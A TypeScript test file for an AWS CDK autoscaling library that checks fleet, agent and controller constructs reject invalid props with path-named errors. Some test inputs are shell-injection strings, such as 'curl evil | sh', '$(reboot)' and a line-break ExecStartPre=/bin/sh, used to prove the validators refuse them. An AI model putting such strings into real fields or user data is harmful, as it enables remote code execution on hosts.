/**
 * Issue 40 item 2 and issue 36: the constructs check their props early, each refusal a PropsValidationError
 * naming the construct's path, and warn about a controller that cannot drain.
 */
import { Duration, Stack } from 'aws-cdk-lib';
import { Annotations, Match } from 'aws-cdk-lib/assertions';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as kms from 'aws-cdk-lib/aws-kms';
import { DEFAULT_IDLE_READINGS, DEFAULT_TASK_METRIC, DrainController, PropsValidationError, ScalingSignals, WorkerAgent, WorkerFleet, WorkerFleetProps, defaultControllerConfig, resolveEnvironment } from '../../lib';
import { DEFAULT_SCALING_POLICY } from '../../core/scaling-policy';
import { AgentFileConfig } from '../../lib/config';
import { makeApp } from '../helpers';

function setup() {
  const stack = new Stack(makeApp(), 'Lib', { env: { account: '123456789012', region: 'eu-west-1' } });
  const vpc = new ec2.Vpc(stack, 'Vpc', { maxAzs: 2, natGateways: 1 });
  return { stack, vpc };
}
const fleetProps = (vpc: ec2.IVpc, over: Partial<WorkerFleetProps> = {}): WorkerFleetProps => ({
  fleetName: 'etl',
  vpc,
  metricsNamespace: 'GracefulAutoscaler/lib',
  instanceTypes: [new ec2.InstanceType('m7i.large'), new ec2.InstanceType('m6i.large')],
  minCapacity: 1,
  maxCapacity: 4,
  ...over,
});
const trinoWorker = { kind: 'trino', url: 'http://127.0.0.1:8080', user: 'graceful-autoscaler' } as const;
const agentConfig: AgentFileConfig = {
  intervalSeconds: 10,
  namespace: 'GracefulAutoscaler/lib',
  runningTasksMetric: 'RunningTasks',
  oldestTaskAgeMetric: 'OldestTaskAgeSeconds',
  tasks: trinoWorker,
  shutdown: trinoWorker,
  runAsRoot: false,
};

function thrown(fn: () => unknown): PropsValidationError {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(PropsValidationError);
    return e as PropsValidationError;
  }
  throw new Error('expected a PropsValidationError');
}

describe('WorkerFleet refuses bad props before any resource, naming its path', () => {
  test.each<[string, Partial<WorkerFleetProps>, RegExp]>([
    ["a fleet name with a quote (root's user data)", { fleetName: "etl'; curl evil | sh; '" }, /^Lib\/Fleet: fleetName \("etl'; curl evil \| sh; '"\) must be lower-case letters/],
    ['a namespace with a quote', { metricsNamespace: "GA'$(reboot)'" }, /^Lib\/Fleet: metricsNamespace \(.*\) must be a CloudWatch namespace/],
    ['min above max', { minCapacity: 5 }, /^Lib\/Fleet: minCapacity \(5\) must be <= maxCapacity \(4\)/],
    ['a fractional max', { maxCapacity: 2.5 }, /^Lib\/Fleet: maxCapacity \(2\.5\) must be a whole number/],
    ['desired outside the range', { desiredCapacity: 9 }, /desiredCapacity \(9\) must be a whole number within \[minCapacity, maxCapacity\] = \[1, 4\]/],
    ['a CPU target of 0', { targetCpuPercent: 0 }, /targetCpuPercent \(0\) must be a number in \(0, 100\]/],
    ['a drain over the hook limit', { drainTimeout: Duration.hours(48) }, /drainTimeout \("172800s"\) must be from 60 s to 172680 s/],
    ['a Spot base above max', { spot: { onDemandBaseCapacity: 9, onDemandPercentageAboveBase: 0 } }, /spot\.onDemandBaseCapacity \(9\) must be a whole number from 0 to maxCapacity \(4\)/],
    ['no instance types', { instanceTypes: [] }, /instanceTypes \(\[\]\) must list at least one instance type/],
    ['arm64 beside x86_64', { instanceTypes: [new ec2.InstanceType('m7g.large'), new ec2.InstanceType('m7i.large')] }, /instanceTypes \(\["m7g\.large","m7i\.large"\]\) must all be arm64/],
  ])('%s', (_name, over, message) => {
    const { stack, vpc } = setup();
    const error = thrown(() => new WorkerFleet(stack, 'Fleet', fleetProps(vpc, over)));
    expect(error.message).toMatch(message);
    expect(error.constructPath).toBe('Lib/Fleet');
    expect(stack.node.findAll().some((c) => c.node.path.startsWith('Lib/Fleet/'))).toBe(false);
  });
});

describe('WorkerAgent refuses strings that would reach user data unsafely', () => {
  test.each<[string, Partial<AgentFileConfig>, RegExp]>([
    ['a worker unit that injects into mkdir', { workerUnit: 'trino.service; curl evil | sh #.service' }, /^Lib\/Agent: config\.workerUnit \(.*\) must be a systemd service unit name/],
    ['a worker unit that is the gate', { workerUnit: 'graceful-autoscaler-in-service.service' }, /config\.workerUnit .* must be the worker's own unit/],
    ['a secret file with a line break', { tasks: { ...trinoWorker, sharedSecretFile: '/etc/s\nExecStartPre=/bin/sh' } }, /config\.tasks\.sharedSecretFile .* must be an absolute file path/],
    ['an interval of 0', { intervalSeconds: 0 }, /config\.intervalSeconds \(0\) must be a whole number from 1 to 300/],
    [
      'two shared-secret files',
      { tasks: { ...trinoWorker, sharedSecretFile: '/etc/trino/a' }, shutdown: { ...trinoWorker, sharedSecretFile: '/etc/trino/b' } },
      /^Lib\/Agent: config\.shutdown\.sharedSecretFile \("\/etc\/trino\/b"\) must be the file config\.tasks\.sharedSecretFile names \(\/etc\/trino\/a\)/,
    ],
  ])('%s', (_name, over, message) => {
    const { stack } = setup();
    expect(thrown(() => new WorkerAgent(stack, 'Agent', { config: { ...agentConfig, ...over } })).message).toMatch(message);
  });
});

describe('DrainController', () => {
  function controllerOn(installAgent: boolean) {
    const { stack, vpc } = setup();
    const fleet = new WorkerFleet(stack, 'Fleet', fleetProps(vpc));
    if (installAgent) new WorkerAgent(stack, 'Agent', { config: agentConfig }).installOn(fleet, { shutdownGraceSeconds: 120 });
    new DrainController(stack, 'Controller', {
      environmentName: 'lib',
      fleets: [{ name: 'etl', group: fleet.autoScalingGroup, drainTimeout: fleet.drainTimeout, heartbeatTimeout: fleet.heartbeatTimeout, shutdownGrace: Duration.minutes(2) }],
      vpc,
      vpcSubnets: { subnetType: ec2.SubnetType.PRIVATE_WITH_EGRESS },
      key: new kms.Key(stack, 'Key'),
      // The documented default, written by hand.
      controller: defaultControllerConfig('lib'),
    });
    return Annotations.fromStack(stack);
  }

  test('warns when the agent is to stop and count the workers of a fleet without WorkerAgent', () => {
    controllerOn(false).hasWarning('/Lib/Controller', Match.stringLikeRegexp("Fleet etl: no WorkerAgent is installed on its group, but the controller uses stopWorker \"agent\".*and the agent's RunningTasks metric"));
  });

  test('no warning once WorkerAgent is installed on the fleet', () => {
    controllerOn(true).hasNoWarning('/Lib/Controller', Match.stringLikeRegexp('no WorkerAgent'));
  });

  test('refuses a bad environment name and duplicate fleets with its path', () => {
    const { stack, vpc } = setup();
    const fleet = new WorkerFleet(stack, 'Fleet', fleetProps(vpc));
    const managed = { name: 'etl', group: fleet.autoScalingGroup, drainTimeout: fleet.drainTimeout, heartbeatTimeout: fleet.heartbeatTimeout, shutdownGrace: Duration.minutes(2) };
    const base = { vpc, vpcSubnets: { subnetType: ec2.SubnetType.PRIVATE_WITH_EGRESS }, key: new kms.Key(stack, 'Key'), controller: defaultControllerConfig('lib') };
    expect(thrown(() => new DrainController(stack, 'C1', { ...base, environmentName: 'Prod!', fleets: [managed] })).message).toMatch(/^Lib\/C1: environmentName \("Prod!"\) must be lower-case/);
    expect(thrown(() => new DrainController(stack, 'C2', { ...base, environmentName: 'lib', fleets: [managed, managed] })).message).toMatch(/^Lib\/C2: fleets \(\["etl","etl"\]\) must name each fleet once/);
  });

  test("refuses a fleet without its workers' security group when it calls their HTTP API, before any resource", () => {
    const { stack, vpc } = setup();
    const fleet = new WorkerFleet(stack, 'Fleet', fleetProps(vpc));
    const managed = { name: 'etl', group: fleet.autoScalingGroup, drainTimeout: fleet.drainTimeout, heartbeatTimeout: fleet.heartbeatTimeout, shutdownGrace: Duration.minutes(2) };
    const trino = { kind: 'trino', port: 8080, scheme: 'http', user: 'graceful-autoscaler' } as const;
    const error = thrown(
      () =>
        new DrainController(stack, 'Controller', {
          environmentName: 'lib',
          fleets: [managed],
          vpc,
          vpcSubnets: { subnetType: ec2.SubnetType.PRIVATE_WITH_EGRESS },
          key: new kms.Key(stack, 'Key'),
          controller: { ...defaultControllerConfig('lib'), stopWorker: trino },
        }),
    );
    expect(error.message).toMatch(/^Lib\/Controller: fleets\[0\]\.securityGroup \(undefined\) must be given: the controller calls fleet etl's workers on their HTTP API, port 8080 \(stopWorker "trino"\)/);
    expect(stack.node.findAll().some((c) => c.node.path.startsWith('Lib/Controller/'))).toBe(false);
  });
});

test('ScalingSignals refuses a fleet that prices its drains without the drain table, naming its path', () => {
  const { stack, vpc } = setup();
  const fleet = new WorkerFleet(stack, 'Fleet', fleetProps(vpc));
  const error = thrown(
    () =>
      new ScalingSignals(stack, 'Signals', {
        environmentName: 'lib',
        fleets: [{ fleetName: 'etl', group: fleet.autoScalingGroup, coordinatorUrl: 'http://10.0.0.1:8080', policy: { ...DEFAULT_SCALING_POLICY, targetCpuPercent: 40 }, drainPricing: { killPenaltyInstanceSeconds: 3600, maxDrainSeconds: 21600 } }],
        vpc,
        vpcSubnets: { subnetType: ec2.SubnetType.PRIVATE_WITH_EGRESS },
        key: new kms.Key(stack, 'Key'),
        user: 'graceful-autoscaler',
      }),
  );
  expect(error.message).toMatch(/^Lib\/Signals: controller \(undefined\) must be given when a fleet prices its drains/);
});

test("the documented default controller is exported, and is what an environment without `controller` resolves to", () => {
  const resolved = resolveEnvironment('lib', { network: { kind: 'create' }, fleets: [{ name: 'etl', instanceTypes: ['m7i.large'], minCapacity: 1, maxCapacity: 4 }] }).controller;
  expect(defaultControllerConfig('lib')).toEqual(resolved);
  expect(DEFAULT_TASK_METRIC).toMatchObject({ metricName: 'RunningTasks', periodSeconds: 10 });
  expect(DEFAULT_IDLE_READINGS).toBe(3);
});
